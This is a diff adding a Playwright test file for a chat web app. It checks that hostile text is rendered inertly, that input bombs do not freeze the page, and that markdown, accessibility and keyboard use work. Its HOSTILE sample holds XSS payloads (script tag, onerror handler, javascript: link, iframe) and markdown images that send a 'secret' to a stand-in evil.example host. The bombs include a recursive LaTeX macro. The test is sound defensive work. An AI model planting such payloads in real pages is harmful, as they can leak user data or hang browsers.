@@ -1,0 +1,96 @@
+"""Text from users and models never runs and never carries anything out, in a real browser."""
+
+from typing import Any
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import expect
+
+from tests.browser.chat_page import ChatPage
+from tests.browser.conftest import reply
+
+pytestmark = [pytest.mark.browser, pytest.mark.installs]
+
+HOSTILE = """
+<script>document.title = "owned"</script><img src="http://evil.example/a.png?secret" onerror="document.title='owned'">
+
+![a](http://evil.example/b.png?secret) ![c][d] [click](javascript:document.title='owned')
+
+<iframe src="http://evil.example/c"></iframe>
+
+[d]: http://evil.example/d.png?secret
+
+The end.
+"""
+
+
+def test_hostile_text_is_only_text(chat: ChatPage, server: Any) -> None:
+    asked: list[str] = []
+    chat.page.on("request", lambda request: asked.append(request.url))
+    failed: list[str] = []
+    chat.page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
+    server.reply = reply(words=(HOSTILE,))
+    chat.say(HOSTILE.replace("\n", " "))
+    chat.wait_for_the_end()
+    expect(chat.answer).to_contain_text("The end.")
+    for link in chat.answer.get_by_role("link").all():
+        assert not (link.get_attribute("href") or "").startswith("javascript")
+    assert chat.page.title() != "owned"
+    blocked = [url for url in failed if "evil.example" in url]
+    assert [url for url in asked if "evil.example" in url and not any(url in one for one in blocked)] == []
+    assert all("csp" in url or "BLOCKED" in url.upper() for url in blocked), blocked
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        r"$$\def\a#1{#1#1}\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}}}}}}}}}$$",
+        "x" * 1_000_000,
+        "(" * 20_000,
+    ],
+    ids=["latex", "one line of a megabyte", "brackets"],
+)
+def test_a_bomb_does_not_stop_the_page(chat: ChatPage, server: Any, bomb: str) -> None:
+    server.reply = reply(words=(bomb,))
+    chat.say("Hello")
+    chat.wait_for_the_end()
+    server.reply = reply()
+    chat.say("Still there?")
+    expect(chat.answer).to_contain_text("Hello from the model.", timeout=20_000)
+
+
+def test_all_that_markdown_has_is_drawn(chat: ChatPage, server: Any) -> None:
+    server.reply = reply(words=("$$x^2$$\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\nשלום",))
+    chat.say("مرحبا")
+    chat.wait_for_the_end()
+    expect(chat.answer.locator(".katex").first).to_be_visible()
+    expect(chat.answer.locator("table")).to_be_visible()
+    expect(chat.answer.locator("code").first).to_contain_text("print(1)")
+    overflow = chat.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+    assert overflow <= 0
+
+
+def test_no_serious_accessibility_fault_of_ours(chat: ChatPage) -> None:
+    chat.say("Hello")
+    chat.wait_for_the_end()
+    found = Axe().run(chat.page).response["violations"]
+    serious = [fault for fault in found if fault["impact"] in ("serious", "critical")]
+    assert {fault["id"]: [node["html"] for node in fault["nodes"]] for fault in serious} == {}
+
+
+def test_the_page_works_by_keyboard(chat: ChatPage) -> None:
+    chat.input.focus()
+    chat.page.keyboard.type("Hello")
+    chat.page.keyboard.press("Enter")
+    chat.wait_for_the_end()
+    again = chat.button("Try again")
+    again.focus()
+    chat.page.keyboard.press("Enter")
+    expect(chat.messages).to_have_count(3)
+    chat.wait_for_the_end()
+
+
+def test_the_send_button_sends(chat: ChatPage) -> None:
+    chat.input.fill("Hello")
+    chat.page.get_by_test_id("stChatInputSubmitButton").click()
+    expect(chat.answer).to_contain_text("Hello from the model.")
